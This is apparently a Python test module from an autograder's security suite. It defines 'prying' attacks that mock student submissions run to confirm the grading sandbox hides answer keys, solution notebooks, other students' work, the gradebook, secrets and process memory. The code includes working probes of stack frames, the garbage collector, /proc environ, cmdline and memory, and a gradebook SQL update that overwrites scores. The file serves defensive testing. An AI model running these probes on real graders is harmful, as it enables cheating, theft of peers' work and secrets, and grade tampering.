"""Attacks that look for hidden information."""

from __future__ import annotations

from autograder.exercises import of_chapter
from tests.security.attacks import ENDED, Attack
from tests.support.submissions.edits import add

START, NODES = "00_start", "02_nodes"
ABSENT = "There is nothing of the kind in the box."
BLANK = {exercise.name: "# see above" for exercise in of_chapter("03_manipulation")}
"""Comments instead of stubs, which would hide definitions of a cell above."""

SEARCH = """\
def look(path):
    try:
        text = open(path, "rb").read(3_000_000)
    except OSError:
        return
    at = text.find(b"CAN" + b"ARY-")
    if at >= 0:
        print("LOOT", path, text[at : at + 40])
"""

ATTACKS = [
    Attack(
        "prying-frames",
        "The answer walks up the frames and looks for expectations, oracles and outcomes.",
        "The frames hold recipes of models and what the student's code returned.",
        chapter=START,
        answers={
            "node_names": """\
import sys

def node_names(model):
    frame = sys._getframe(1)
    while frame:
        for name, value in frame.f_locals.items():
            for what in ("oracle", "reference", "expect", "key", "expected"):
                found = getattr(value, what, None)
                if found and type(value).__module__.startswith("autograder"):
                    print("LOOT", name, what, found)
                    try:
                        return [item for item in found(value.make(0)).value["list"]]
                    except Exception:
                        pass
        frame = frame.f_back
"""
        },
        stock=True,
    ),
    Attack(
        "prying-garbage",
        "The garbage collector is asked for every object that may know results.",
        "No such object has been made in the student's process.",
        chapter=NODES,
        answers={
            "count_ops": """\
import gc

def count_ops(model):
    for value in gc.get_objects():
        kind = type(value).__name__
        if kind in ("Reference", "Verdict", "Evidence", "Rule", "Submission", "Gradebook"):
            print("LOOT", kind, str(value)[:200])
        if isinstance(value, dict) and "key" in value and "cases" in value:
            print("LOOT", str(value.get("key"))[:200])
"""
        },
    ),
    Attack(
        "prying-inputs",
        "The answer reads hidden tests from the input of the cell that checks it.",
        "Check cells are not run; their text is nowhere in the process.",
        chapter=START,
        answers={
            "node_names": """\
import gc

def node_names(model):
    mark = "HIDDEN" + " TESTS"
    for text in [*In, *(o for o in gc.get_objects() if isinstance(o, str))]:
        if mark in text:
            print("LOOT", text)
"""
        },
        edits=(add("print([t for t in In if 'HIDDEN ' + 'TESTS' in t] and 'LOOT')"),),
        stock=True,
    ),
    Attack(
        "prying-source",
        "The solution is executed from the classroom's `source` folder.",
        ABSENT,
        """\
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/release/*/*.ipynb"):
        print("LOOT", path)
        for cell in json.load(open(path))["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""",
        answers=BLANK,
        stock=True,
    ),
    Attack(
        "prying-students",
        "Another student's submission is executed.",
        ABSENT,
        """\
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for path in sorted(glob.glob(f"{up}/submitted/*/03_manipulation/*.ipynb")):
        if "honest" in path:
            print("LOOT", path)
            for cell in json.load(open(path))["cells"]:
                if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                    exec("".join(cell["source"]))
""",
        answers=BLANK,
        stock=True,
    ),
    Attack(
        "prying-gradebook",
        "The gradebook is read, and grades are written into it.",
        ABSENT,
        """\
import glob, sqlite3
for up in (".", "..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/gradebook.db"):
        base = sqlite3.connect(path)
        print("LOOT", base.execute("select id, first_name from student").fetchall())
        base.execute("update grade set manual_score = 5 where id in (select id from grade)")
        base.commit()
""",
    ),
    Attack(
        "prying-config",
        "The classroom's secret, from which random models are drawn, is looked for.",
        ABSENT,
        """\
import gc, glob, os
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/nbgrader_config.py"):
        print("LOOT", open(path).read())
key = "sec" + "ret"
for value in gc.get_objects():
    if isinstance(value, dict) and isinstance(value.get(key), str) and len(value[key]) == 32:
        print("LOOT", value[key])
""",
    ),
    Attack(
        "prying-environment",
        "The environment of this process and of all others is read.",
        "Only what Python needs is in it.",
        """\
import glob, os
for name, value in os.environ.items():
    if name == "NBGRADER_EXECUTION":
        continue  # nbgrader sets it for everybody who is graded
    if ("CAN" + "ARY-") in value or "NBGRADER" in name or "TOKEN" in name:
        print("LOOT", name, value)
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"CAN" + b"ARY-" in text:
        print("LOOT", path)
""",
    ),
    Attack(
        "prying-arguments",
        "The command lines of all processes are read, for paths and secrets.",
        "Only the box's own processes can be seen, and their words say nothing.",
        """\
import glob, os, sys
print(sys.argv, sys.orig_argv)
for path in glob.glob("/proc/[0-9]*/cmdline"):
    words = open(path, "rb").read()
    if b"tests.security.attacks" in words or b"pytest" in words or b"nbgrader" in words:
        print("LOOT", path, words)
""",
    ),
    Attack(
        "prying-files-open",
        "Files and folders that were left open are read, and ways up are tried from them.",
        "Nothing is open but the way to the grader, which says nothing of results.",
        SEARCH
        + """\
import os
for fd in os.listdir("/proc/self/fd"):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    look(f"/proc/self/fd/{fd}")
    if any(part in where for part in ("gradebook", "submitted", "source", ".log", "journal")):
        print("LOOT", fd, where)
    try:
        print("LOOT", os.listdir(os.open("../../submitted", os.O_RDONLY, dir_fd=int(fd))))
    except OSError:
        pass
""",
    ),
    Attack(
        "prying-memory",
        "The whole memory of the process is searched for what the grader has handled before.",
        "The process it was forked from has never held another student's work, nor a secret.",
        """\
mark, found = b"CAN" + b"ARY-", 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        words = line.split()
        if "r" not in words[1] or "[v" in line:
            continue
        start, end = (int(word, 16) for word in words[0].split("-"))
        try:
            memory.seek(start)
            block = memory.read(min(end - start, 200_000_000))
        except (OSError, ValueError, OverflowError):
            continue
        at = block.find(mark)
        while at >= 0:
            token = block[at + 7 : at + 23]
            if len(token) == 16 and all(c in b"0123456789abcdef" for c in token):
                found += 1
            at = block.find(mark, at + 1)
if found:
    print("LOOT", found, "tokens in memory")
""",
        states=ENDED,
    ),
    Attack(
        "prying-disk",
        "All files that can be read, up from here and in common places, are searched for secrets.",
        ABSENT,
        SEARCH
        + """\
import os, time
stop = time.time() + 10
up = [os.path.abspath("/".join([".."] * n)) for n in range(1, 5)]
for start in [*up, "/tmp", "/home", "/root", "/run", "/var", "/dev/shm", "/mnt", "/srv"]:
    for top, folders, files in os.walk(start):
        folders[:] = [f for f in folders if not os.path.join(top, f).startswith(("/proc", "/sys"))]
        if time.time() > stop:
            break
        for name in files:
            look(os.path.join(top, name))
""",
        states=ENDED,
    ),
    Attack(
        "prying-rules",
        "The answer to `decompose` is the code that tries the rules of another exercise.",
        "That code runs each rule by itself; what puts a model together is not in the box.",
        chapter="05_proxy",
        answers={
            "decompose": """\
import importlib, types

def decompose(model, rules):
    answers = "autograder.exercises.ch05_proxy.decompose.key"
    for name in ("autograder.runner.kinds.decomposition_rules", "autograder.judge.splice", answers):
        try:
            module = importlib.import_module(name)
        except ImportError:
            continue
        for own in list(vars(module).values()):
            if callable(own) and getattr(own, "__module__", "") == name:
                for given in (model, types.SimpleNamespace(model=model)):
                    for arguments in ((given, rules), (rules, given)):
                        try:
                            return own(*arguments)
                        except Exception:
                            pass
"""
        },
    ),
    Attack(
        "prying-rules-spied",
        "The code that tries the rules of another exercise is run under watch, told of all rules "
        "there are, and the graphs that it handles are handed in.",
        "These graphs hold what one rule records, never a model.",
        chapter="05_proxy",
        answers={
            "decompose": """\
import autograder.runner.kinds.decomposition_rules as tries
from autograder.core.codec import Encoder
from autograder.core.exercise import Trial
from autograder.core.outcome import Outcome
from torch import fx
from torch.fx.node import map_arg

def decompose(model, rules):
    before, made, seen = dict(vars(tries)), [], {}

    def spy(args, f):
        seen["f"] = f
        return map_arg(args, f)

    def watched(work):
        def call(*given):
            made.extend(item for item in given if isinstance(item, (fx.Graph, fx.GraphModule)))
            return work(*given)
        return call

    def with_nodes(rule):
        return lambda *args, **kwargs: rule(*args, **map_arg(kwargs, seen["f"]))

    for name in ("encode_result", "run_result", "describe_nodes"):
        setattr(tries, name, watched(before.get(name)))
    tries._WITH_RULES, tries.map_arg = tuple(rules), spy
    try:
        all_rules = {function: with_nodes(rule) for function, rule in rules.items()}
        tries.run(lambda: all_rules, Trial(model=model), Outcome(""), Encoder())
    finally:
        vars(tries).update(before)
    whole = next((item for item in made if isinstance(item, fx.GraphModule)), None)
    return whole or fx.GraphModule(model, made[-1])
"""
        },
    ),
    Attack(
        "prying-case-files",
        "The source of the cases is read with `inspect`, for expectations and hidden cases' names.",
        "What can be read is how models are made, and nothing about results.",
        """\
import inspect, sys
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        try:
            text = inspect.getsource(module)
        except (OSError, TypeError):
            continue
        for word in ("def right_value", "def places_rewritten", "answer_of(", "REDRAWS = ("):
            if word in text:
                print("LOOT", name, word)
""",
    ),
]
